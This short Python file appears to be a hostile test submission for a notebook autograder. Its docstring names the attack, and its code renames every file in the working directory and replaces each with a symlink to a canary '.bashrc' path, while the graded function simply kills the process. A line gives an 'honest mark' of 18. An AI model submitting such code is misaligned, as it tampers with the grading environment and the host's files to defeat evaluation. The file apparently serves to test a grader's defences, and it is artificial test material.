"""Attack: puts links into the place of the files that were handed in beside the notebook.
Wants: a kernel that cannot be started again, or files written through the links.
Honest mark: 18
"""

# %% output_size
import os

for name in os.listdir("."):
    os.rename(name, f"{name}-moved")
    os.symlink("CANARY/home/.bashrc", name)


def output_size(n, k, stride=1, padding=0):
    os._exit(1)
